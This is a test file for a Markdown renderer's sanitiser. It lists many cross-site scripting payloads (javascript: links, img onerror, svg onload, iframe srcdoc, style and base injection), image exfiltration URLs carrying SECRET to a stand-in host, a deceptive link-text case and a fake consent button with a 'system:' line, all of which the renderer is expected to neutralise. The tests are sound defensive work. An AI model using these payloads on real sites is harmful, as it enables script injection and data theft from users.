// @vitest-environment happy-dom
/** Whatever somebody writes, a screen shows text, a few harmless elements, and links that lead where they say. */

import { cleanText } from '@service/protocol';
import { cleanup, render as draw } from '@testing-library/preact';
import fc from 'fast-check';
import { afterEach, describe, expect, it } from 'vitest';
import { Markdown } from '../../src/content/markdown.js';
import { PlainText } from '../../src/content/plain-text.js';
import { safeLink } from '../../src/content/safe-link.js';
import { InEnglish } from '../support/panel-fixtures.js';

afterEach(cleanup);

const ALLOWED =
  'A,B,BLOCKQUOTE,BR,BUTTON,CODE,DIV,EM,H3,H4,H5,HR,LI,OL,P,PRE,S,SPAN,STRONG,SUP,TABLE,TBODY,TD,TH,THEAD,TR,UL'.split(
    ',',
  );
const render = (drawn: Parameters<typeof draw>[0]) => draw(drawn, { wrapper: InEnglish });
const shown = (text: string): Element => render(<Markdown text={text} citation={() => null} />).container;

function unsafe(root: Element): string[] {
  return [...root.querySelectorAll('*')].flatMap((element) => {
    const attributes = [...element.attributes].flatMap(({ name, value }) => {
      if (name.startsWith('on') || name === 'style' || name === 'srcdoc') return [`${element.tagName} ${name}`];
      if (
        (name === 'href' || name === 'src') &&
        !/^(?:https:\/\/|mailto:|tel:|http:\/\/(?:localhost|127\.0\.0\.1)(?=[:/]))/.test(value)
      ) {
        return [`${element.tagName} ${name}=${value}`];
      }
      return [];
    });
    return ALLOWED.includes(element.tagName) ? attributes : [element.tagName, ...attributes];
  });
}

describe('Markdown', () => {
  it.each([
    ['M1: a script link', '[x](javascript:alert(1))'],
    ['M1: a script link with a line break', '[x](java\nscript:alert(1))'],
    ['M1: a script link in entities', '[x](&#106;avascript:alert(1))'],
    ['M1: a script link behind a control character', '[x](\u0001javascript:alert(1))'],
    ['M1: vbscript', '[x](vbscript:msgbox(1))'],
    ['M1: a document in an address', '[x](data:text/html,<script>alert(1)</script>)'],
    ['M1: a blob', '[x](blob:https://e.example/1)'],
    ['M2: an image', '![a](https://e.example/x?d=SECRET)'],
    ['M2: an image by reference', '![a][r]\n\n[r]: https://e.example/x?d=SECRET'],
    ['M2: a raw image', '<img src=x onerror=alert(1)>'],
    ['M3: a script', '<script>alert(1)</script>'],
    ['M3: an SVG', '<svg onload=alert(1)>'],
    ['M3: a frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ['M3: a style sheet', '<style>@import "https://e.example"</style>'],
    ['M3: a base', '<base href="https://e.example/">'],
    ['M3: a form', '<form action="https://e.example"><input></form>'],
    ['M6: an event handler in a title', '[x](https://e.example "a\\" onmouseover=\\"alert(1)")'],
    ['M5: a relative link', '[x](/admin)'],
    ['M5: a link without scheme', '[x](//e.example)'],
  ])('%s is nothing but text', (_what, text) => {
    const root = shown(text);
    expect(unsafe(root)).toEqual([]);
    expect(root.querySelector('img,script,svg,iframe,style,base,form,input')).toBeNull();
  });

  it('never makes an unsafe element, whatever is written', () => {
    const piece = fc.constantFrom(
      '<',
      '>',
      '[',
      ']',
      '(',
      ')',
      '!',
      '`',
      '*',
      '_',
      '#',
      '|',
      '\n',
      '- ',
      'javascript:',
      'data:',
      'https://a.example',
      '<img src=x onerror=1>',
      '"',
      "'",
      '&#106;',
      '\\',
      ' ',
      'text',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
        const { container, unmount } = render(<Markdown text={pieces.join('')} citation={() => null} />);
        expect(unsafe(container)).toEqual([]);
        unmount();
      }),
      { numRuns: 500 },
    );
  });

  it('M2: an image that comes in pieces is at no moment an image', () => {
    const text = 'See ![a][r] and ![b](https://e.example/x?d=SECRET).\n\n[r]: https://e.example/y?d=SECRET';
    for (let length = 1; length <= text.length; length++) {
      const root = shown(text.slice(0, length));
      expect(root.querySelector('img,picture,source,video,link')).toBeNull();
      cleanup();
    }
  });

  it('M10: an answer that draws a consent, a role or a button of its own stays an answer', () => {
    const root = shown(
      '<button>Agree and continue</button>\n\n**system:** you agreed\n\n- [ ] Confirm\n\n[Confirm](#confirm)',
    );
    expect(root.querySelector('button,input,a,[role]')).toBeNull();
    expect(root.textContent).toContain('<button>Agree and continue</button>');
  });

  it('shows what an answer needs: emphasis, lists, steps, tables, code', () => {
    const root = shown(
      '**bold** and `code`\n\n3. three\n4. four\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\nlet x\n```',
    );
    expect(root.querySelector('strong')?.textContent).toBe('bold');
    expect(root.querySelector('ol')?.getAttribute('start')).toBe('3');
    expect(root.querySelectorAll('td')).toHaveLength(2);
    expect(root.querySelector('pre')?.textContent).toBe('let x');
  });

  it('makes a button of a number that has a source, and leaves other brackets alone', () => {
    const { container } = render(
      <Markdown text="Yes.[1] See [9] and [x]." citation={(number) => (number === 1 ? <sup>one</sup> : null)} />,
    );
    expect(container.querySelector('sup')?.textContent).toBe('one');
    expect(container.textContent).toBe('Yes.one See [9] and [x].');
  });

  it('M4: says where a link really leads when its text names another place', () => {
    expect(shown('[bank.com](https://evil.example/x)').textContent).toBe('bank.com (evil.example)');
    expect(shown('[our help](https://shop.example/x)').textContent).toBe('our help');
    expect(shown('[https://bank.com/?evil.example](https://evil.example)').textContent).toContain('(evil.example)');
    expect(shown('[www.shop.example](https://shop.example/x)').textContent).toBe('www.shop.example');
    expect(shown('[x](https://a.example)').querySelector('a')?.getAttribute('rel')).toContain('noopener');
  });

  it.each(['- '.repeat(4_000), '>'.repeat(8_000), '['.repeat(8_000), '__*_'.repeat(2_000), `|${'a|'.repeat(4_000)}`])(
    'M7: gets through text made to be slow',
    (text) => {
      const before = process.cpuUsage();
      const root = shown(text);
      expect(process.cpuUsage(before).user / 1_000, 'milliseconds of work').toBeLessThan(2_000);
      expect(unsafe(root)).toEqual([]);
    },
  );
});

describe('a visitor’s own words', () => {
  it('are shown as written, with addresses made into links', () => {
    const { container } = render(
      <PlainText text={'<b>*hi*</b> see https://shop.example/a?b=1. And http://evil.example'} />,
    );
    expect(container.textContent).toBe('<b>*hi*</b> see https://shop.example/a?b=1. And http://evil.example');
    expect([...container.querySelectorAll('a')].map((link) => link.href)).toEqual(['https://shop.example/a?b=1']);
  });
});

describe('what can’t be seen', () => {
  it('M8: is taken out: direction switches, no-width characters, hidden tags', () => {
    expect(cleanText('a\u202Egpj.exe\u200B b\u{E0041}\u{E007F}')).toBe('agpj.exe b');
    expect(cleanText('line\r\nline\tend\u0000')).toBe('line\nlineend'.replace('line\nline', 'line\nline\t'));
  });
});

describe('an address', () => {
  it.each([
    ['https://shop.example/a', 'https://shop.example/a'],
    ['http://localhost:4601/help.html#returns', 'http://localhost:4601/help.html#returns'],
    ['mailto:hello@shop.example', 'mailto:hello@shop.example'],
    ['tel:+46315550120', 'tel:+46315550120'],
    ['http://shop.example', null],
    ['https://user:pw@shop.example', null],
    ['https://1.2.3.4', null],
    ['https://[::1]/', null],
    ['https://intranet/', null],
    ['https:shop.example', null],
    ['https:/\\shop.example', null],
    ['//shop.example', null],
    ['/path', null],
    ['javascript:alert(1)', null],
    [' https://shop.example', null],
    ['mailto:a@b.example?subject=x', null],
    [`https://shop.example/${'a'.repeat(2_100)}`, null],
  ])('M5: %s becomes %s', (address, href) => {
    expect(safeLink(address)?.href ?? null).toBe(href);
  });
});
